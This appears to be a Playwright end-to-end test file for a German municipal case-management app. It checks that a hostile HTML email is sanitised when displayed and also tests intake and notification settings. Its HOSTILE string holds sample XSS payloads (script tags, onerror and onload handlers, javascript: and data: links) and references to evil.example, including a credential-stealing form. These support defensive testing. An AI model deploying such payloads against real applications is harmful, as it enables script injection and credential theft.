"""End to end in real Chromium: mail in and out (issue 9).

A hostile HTML mail is read into the Posteingang; the KRM-B opens it: nothing runs (no
script, no event handler, no dialog), nothing is fetched from outside (no remote image,
stylesheet or frame). The KRM-B takes it in (kind, unit), looks at the quarantine and the
Postausgang; a TL chooses the daily digest. On every page: no axe-core violation, no console
error, no failed response.
"""

from __future__ import annotations

import re
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from krm.cases.models import Case
from krm.cases.states import Status
from krm.conftest import Org
from krm.mail.models import Delivery, NotificationKind, NotificationSetting
from krm.mailbox.services import import_mail

from .conftest import PageChecks, field, login, open_step, take_step

pytestmark = pytest.mark.browser

HOSTILE = (
    "<html><head><base href='http://evil.example/'>"
    "<link rel='stylesheet' href='http://evil.example/style.css'>"
    "<meta http-equiv='refresh' content='0;url=http://evil.example/'>"
    "<style>body{background:url(http://evil.example/bg.png)}</style></head><body>"
    "<p>Sehr geehrte Damen und Herren, <b>ich beschwere mich</b>.</p>"
    "<script>window.__pwned = 'script'; alert('script')</script>"
    "<img src='http://evil.example/pixel.gif' onerror=\"window.__pwned='onerror'\">"
    "<img src=x onerror=\"window.__pwned='onerror2'\">"
    "<iframe src='http://evil.example/frame'></iframe>"
    "<svg onload=\"window.__pwned='svg'\"><circle r='5'/></svg>"
    "<form action='http://evil.example/steal'><input name='pw'><button>Senden</button></form>"
    "<a href='javascript:window.__pwned=1'>Klick</a> "
    "<a href='data:text/html,<script>alert(1)</script>'>Daten</a> "
    "<a href='https://www.berlin.de/'>berlin.de</a>"
    "<p style='background:url(http://evil.example/inline.png)'"
    " onmouseover=\"window.__pwned='hover'\">"
    "Bewegen Sie die Maus hierher.</p>"
    "</body></html>"
)


def _hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "Max Angreifer <max@example.net>"
    message["To"] = "krm@pankow.example"
    message["Subject"] = "Beschwerde mit HTML"
    message["Date"] = format_datetime(timezone.now())
    message["Message-ID"] = make_msgid(domain="example.net")
    message.set_content("Sehr geehrte Damen und Herren, ich beschwere mich.")
    message.add_alternative(HOSTILE, subtype="html")
    return message.as_bytes()


def test_an_html_mail_is_shown_and_nothing_runs_or_is_fetched(
    page: Page, site: str, org: Org, checks: PageChecks
) -> None:
    result = import_mail(_hostile_mail(), jobcenter=org.jobcenter, source="KRM-Postfach")
    import_mail(b"\x00\x01\x02 this is no mail \xff" * 20, jobcenter=org.jobcenter, source="x")
    outside: list[str] = []
    dialogs: list[str] = []
    page.on(
        "request",
        lambda request: None if request.url.startswith(site) else outside.append(request.url),
    )
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    login(page, site, "krmb", checks)
    page.get_by_role("link", name="Postfach", exact=True).click()
    expect(page.get_by_role("heading", level=1, name="Postfach")).to_be_visible()
    checks.check("Postfach")
    page.get_by_role("link", name=result.aktenzeichen).click()
    checks.check("Fallseite einer E-Mail")
    mails = page.get_by_role("region", name="E-Mails")
    mails.get_by_text(re.compile("^Als HTML anzeigen")).click()
    shown = mails.locator(".mail-html")
    expect(shown.locator("b")).to_have_text("ich beschwere mich")
    shown.get_by_text("Bewegen Sie die Maus hierher.").hover()
    shown.get_by_text("Klick", exact=True).click()  # was a javascript: link: no link now
    assert shown.get_by_role("link", name="Klick").count() == 0
    page.wait_for_timeout(300)
    checks.check("HTML der E-Mail aufgeklappt")
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    assert outside == []
    assert (
        shown.locator("script, img, iframe, form, input, svg, style, link, base, meta").count() == 0
    )
    assert shown.locator("[style], [onerror], [onmouseover], [onload]").count() == 0
    assert shown.get_by_role("link", name="berlin.de").get_attribute("rel") is not None

    # Take it in: the KRM-B names kind and unit.
    page.goto(f"{site}/faelle/{result.case.pk}/")
    details = open_step(page, "Aus dem Posteingang übernehmen")
    field(details, "Art").select_option(label="Beschwerde")
    field(details, "betroffene Einheit").select_option(value="711")
    take_step(page, details, "Aus dem Posteingang übernehmen")
    checks.check("Übernommen")
    assert Case.objects.get(pk=result.case.pk).status == Status.EINGEGANGEN

    page.get_by_role("link", name="Postfach", exact=True).click()
    page.get_by_role("link", name=re.compile("^Quarantäne")).first.click()
    expect(page.get_by_role("heading", level=1, name="Quarantäne")).to_be_visible()
    checks.check("Quarantäne")
    page.get_by_role("link", name="Postfach").first.click()
    page.get_by_role("link", name=re.compile("^Postausgang")).click()
    expect(page.get_by_role("heading", level=1, name="Postausgang")).to_be_visible()
    checks.check("Postausgang")
    checks.assert_clean()


def test_a_tl_chooses_the_digest(page: Page, site: str, org: Org, checks: PageChecks) -> None:
    login(page, site, "tl", checks)
    page.goto(f"{site}/konto/")
    page.get_by_role("link", name="Einstellen, wann krm Ihnen schreibt").click()
    checks.check("Benachrichtigungen")
    group = page.get_by_role("group", name=re.compile("^Neue Aufgabe für mich"))
    group.get_by_label("in der täglichen Übersicht").check()
    page.get_by_role("button", name="Speichern").click()
    expect(page.get_by_role("status").first).to_contain_text("gespeichert")
    checks.check("Benachrichtigungen gespeichert")
    setting = NotificationSetting.objects.get(user=org["tl"], kind=NotificationKind.AUFGABE)
    assert setting.delivery == Delivery.DIGEST
    checks.assert_clean()
